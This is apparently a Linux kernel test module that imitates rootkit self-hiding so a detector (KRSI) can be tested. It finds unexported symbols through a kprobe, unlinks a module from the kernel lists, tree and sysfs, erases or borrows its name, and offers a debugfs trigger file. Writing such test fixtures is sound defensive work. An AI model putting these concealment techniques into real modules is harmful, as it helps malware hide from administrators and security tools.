// SPDX-License-Identifier: GPL-2.0
/*
 * A module that hides itself, or another one, as rootkits do: step by step,
 * when it is told to, and back again. For module_hide_test.c.
 *
 *   target=NAME   hides that module, which is loaded; otherwise itself
 *   lender=NAME   the module whose name HIDE_BORROW takes
 *   early=MASK    hides when this parameter is set: before init and before
 *                 the module is in sysfs; the two above must stand before it
 *   in_init=MASK  hides in its init
 *   later=MASK    hides so many milliseconds after it:
 *   delay=MS      6000 if it isn't given
 *   linger=MS     sleeps so long after it has hidden early or in init; a signal
 *                 to who loads it ends that
 *   door=NAME     file in debugfs: a mask that is written there hides, 0 ends it
 *
 * Masks are those of hider.h. Everything is put back in the end, so that the
 * kernel stays healthy; but a module that was taken out of sysfs must not be
 * unloaded.
 */

#include <linux/debugfs.h>
#include <linux/delay.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/rculist.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>

#include "hider.h"

static char *target, *lender, *door;
static unsigned int in_init, later, linger, delay = 6000;

module_param(target, charp, 0);
module_param(lender, charp, 0);
module_param(door, charp, 0);
module_param(in_init, uint, 0);
module_param(later, uint, 0);
module_param(linger, uint, 0);
module_param(delay, uint, 0);

/* What is not exported. */
static struct {
	unsigned long (*lookup)(const char *name);
	struct mutex *module_mutex;
	struct list_head *modules, *module_bug_list;
	struct blocking_notifier_head *module_notify_list;
	void (*mod_tree_insert)(struct module *mod);
	void (*mod_tree_remove)(struct module *mod);
	void (*ftrace_release_mod)(struct module *mod);
} kernel;

/* What the hidden module was. */
static struct {
	struct module *mod;
	unsigned int steps;
	char name[MODULE_NAME_LEN];
	unsigned int sizes[MOD_MEM_NUM_TYPES];
	void *bases[MOD_MEM_NUM_TYPES];
	unsigned int num_symtab;
	enum module_state state;
	struct module *copy;
} hidden;

static int find_kernel(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (kernel.lookup)
		return 0;
	if (register_kprobe(&probe))
		return -ENOENT;
	/* A probe may lie behind the first instruction. */
	kernel.lookup = (void *)((unsigned long)probe.addr & ~15UL);
	unregister_kprobe(&probe);
	kernel.module_mutex = (void *)kernel.lookup("module_mutex");
	kernel.modules = (void *)kernel.lookup("modules");
	kernel.module_bug_list = (void *)kernel.lookup("module_bug_list");
	kernel.module_notify_list = (void *)kernel.lookup("module_notify_list");
	kernel.mod_tree_insert = (void *)kernel.lookup("mod_tree_insert");
	kernel.mod_tree_remove = (void *)kernel.lookup("mod_tree_remove");
	kernel.ftrace_release_mod = (void *)kernel.lookup("ftrace_release_mod");
	return 0;
}

static struct module *find_loaded(const char *name)
{
	struct module *pos, *found = NULL;

	mutex_lock(kernel.module_mutex);
	list_for_each_entry(pos, kernel.modules, list) {
		if (!strcmp(pos->name, name))
			found = pos;
	}
	mutex_unlock(kernel.module_mutex);
	return found;
}

/*
 * The tree has each range of memory. Those of init are the loader's own affair:
 * it takes them out when init is done, which must not happen twice.
 */
static void change_tree(struct module *mod, void (*change)(struct module *mod))
{
	unsigned int sizes[MOD_MEM_NUM_TYPES];

	for_class_mod_mem_type(type, init) {
		sizes[type] = mod->mem[type].size;
		mod->mem[type].size = 0;
	}
	change(mod);
	for_class_mod_mem_type(type, init)
		mod->mem[type].size = sizes[type];
}

static void hide_links(struct module *mod, unsigned int steps)
{
	struct list_head was = mod->list;

	if (steps & (HIDE_LIST | HIDE_LIST_FALSE))
		list_del_rcu(&mod->list);
	if (steps & HIDE_LIST)
		mod->list.next = LIST_POISON1;
	if (steps & HIDE_LIST_FALSE)
		mod->list = was;
	if (steps & HIDE_BUGS)
		list_del_rcu(&mod->bug_list);
	if (steps & HIDE_TREE)
		change_tree(mod, kernel.mod_tree_remove);
}

static void hide_fields(struct module *mod, unsigned int steps)
{
	if (steps & (HIDE_MEMORY | HIDE_RANGES)) {
		for_class_mod_mem_type(type, core) {
			hidden.sizes[type] = mod->mem[type].size;
			hidden.bases[type] = mod->mem[type].base;
			mod->mem[type].size = 0;
			if (steps & HIDE_RANGES)
				mod->mem[type].base = NULL;
		}
	}
	memcpy(hidden.name, mod->name, sizeof(hidden.name));
	if (steps & HIDE_NAME)
		memset(mod->name, 0, sizeof(mod->name));
	if (steps & HIDE_BORROW)
		strscpy_pad(mod->name, lender);
	hidden.num_symtab = mod->core_kallsyms.num_symtab;
	if (steps & HIDE_SYMBOLS)
		mod->core_kallsyms.num_symtab = 0;
	hidden.state = mod->state;
	if (steps & HIDE_STATE)
		mod->state = MODULE_STATE_UNFORMED;
	if (steps & HIDE_LEAVE) {
		atomic_set(&mod->refcnt, 0);
		mod->state = MODULE_STATE_GOING;
	}
}

/* Who is first in the chain, and nobody else. */
static void tell_head(enum module_state state, struct module *mod)
{
	struct notifier_block *head = rcu_dereference_raw(kernel.module_notify_list->head);

	head->notifier_call(head, state, mod);
}

static void tell_of_copy(const struct module *mod)
{
	hidden.copy = vmalloc(sizeof(*mod));
	if (!hidden.copy)
		return;
	memcpy(hidden.copy, mod, sizeof(*mod));
	strscpy_pad(hidden.copy->name, "copy");
	tell_head(MODULE_STATE_COMING, hidden.copy);
}

static void end_copy(void)
{
	if (!hidden.copy)
		return;
	tell_head(MODULE_STATE_GOING, hidden.copy);
	vfree(hidden.copy);
	hidden.copy = NULL;
}

static void hide(struct module *mod, unsigned int steps)
{
	hidden.mod = mod;
	hidden.steps = steps;
	/* Goes by the ranges of memory. */
	if (steps & HIDE_FTRACE)
		kernel.ftrace_release_mod(mod);
	mutex_lock(kernel.module_mutex);
	hide_links(mod, steps);
	hide_fields(mod, steps);
	mutex_unlock(kernel.module_mutex);
	if (steps & (HIDE_LEAVE | HIDE_CHAIN))
		blocking_notifier_call_chain(kernel.module_notify_list, MODULE_STATE_GOING, mod);
	if (steps & HIDE_COME)
		tell_head(MODULE_STATE_COMING, mod);
	if (steps & HIDE_COPY)
		tell_of_copy(mod);
	if (steps & (HIDE_SYSFS | HIDE_SYSFS_FLAG))
		kobject_del(&mod->mkobj.kobj);
	if (steps & HIDE_SYSFS_FLAG)
		mod->mkobj.kobj.state_in_sysfs = 1;
}

static void show_fields(struct module *mod, unsigned int steps)
{
	if (steps & HIDE_LEAVE)
		atomic_set(&mod->refcnt, 1);
	/* The loader may have changed it since. */
	if (mod->state == (steps & HIDE_STATE ? MODULE_STATE_UNFORMED : MODULE_STATE_GOING) &&
	    steps & (HIDE_STATE | HIDE_LEAVE))
		mod->state = hidden.state;
	if (steps & HIDE_SYMBOLS)
		mod->core_kallsyms.num_symtab = hidden.num_symtab;
	if (steps & (HIDE_NAME | HIDE_BORROW))
		memcpy(mod->name, hidden.name, sizeof(hidden.name));
	if (steps & (HIDE_MEMORY | HIDE_RANGES)) {
		for_class_mod_mem_type(type, core) {
			mod->mem[type].size = hidden.sizes[type];
			mod->mem[type].base = hidden.bases[type];
		}
	}
}

static void show(void)
{
	struct module *mod = hidden.mod;
	unsigned int steps = hidden.steps;
	int ret = 0;

	hidden.steps = 0;
	end_copy();
	mutex_lock(kernel.module_mutex);
	show_fields(mod, steps);
	if (steps & HIDE_TREE)
		change_tree(mod, kernel.mod_tree_insert);
	if (steps & HIDE_BUGS)
		list_add_rcu(&mod->bug_list, kernel.module_bug_list);
	if (steps & (HIDE_LIST | HIDE_LIST_FALSE))
		list_add_rcu(&mod->list, kernel.modules);
	mutex_unlock(kernel.module_mutex);
	if (steps & (HIDE_SYSFS | HIDE_SYSFS_FLAG)) {
		mod->mkobj.kobj.state_in_sysfs = 0;
		ret = kobject_add(&mod->mkobj.kobj, NULL, "%s", mod->name);
	}
	if (ret)
		pr_err("krsi_hider: no directory in sysfs any more: %d\n", ret);
}

static int act(unsigned int steps)
{
	struct module *mod = THIS_MODULE;

	if (find_kernel())
		return -ENOENT;
	if (hidden.steps)
		show();
	if (target)
		mod = find_loaded(target);
	if (!mod)
		return -ENOENT;
	if (steps)
		hide(mod, steps);
	return 0;
}

static int set_early(const char *value, const struct kernel_param *param)
{
	unsigned int steps;
	int ret = kstrtouint(value, 0, &steps);

	if (!ret)
		ret = act(steps);
	msleep_interruptible(linger);
	return ret;
}

static const struct kernel_param_ops early_ops = { .set = set_early };
module_param_cb(early, &early_ops, NULL, 0);

static void act_later(struct work_struct *work)
{
	act(later);
}

static DECLARE_DELAYED_WORK(later_work, act_later);

static ssize_t door_write(struct file *file, const char __user *from, size_t size, loff_t *pos)
{
	unsigned int steps;
	int ret = kstrtouint_from_user(from, size, 0, &steps);

	return ret ?: act(steps) ?: size;
}

/* Without an owner: a reference to a hidden module couldn't be taken. */
static const struct file_operations door_ops = { .write = door_write };
static struct dentry *door_file;

static int __init hider_init(void)
{
	int ret = find_kernel();

	if (!ret && door)
		door_file = debugfs_create_file(door, 0200, NULL, NULL, &door_ops);
	if (!ret && in_init) {
		ret = act(in_init);
		msleep_interruptible(linger);
	}
	if (!ret && later)
		schedule_delayed_work(&later_work, msecs_to_jiffies(delay));
	return ret;
}

static void __exit hider_exit(void)
{
	cancel_delayed_work_sync(&later_work);
	debugfs_remove(door_file);
	if (hidden.steps)
		show();
}

module_init(hider_init);
module_exit(hider_exit);
MODULE_DESCRIPTION("Hides as rootkits do, for the tests of KRSI");
MODULE_LICENSE("GPL");
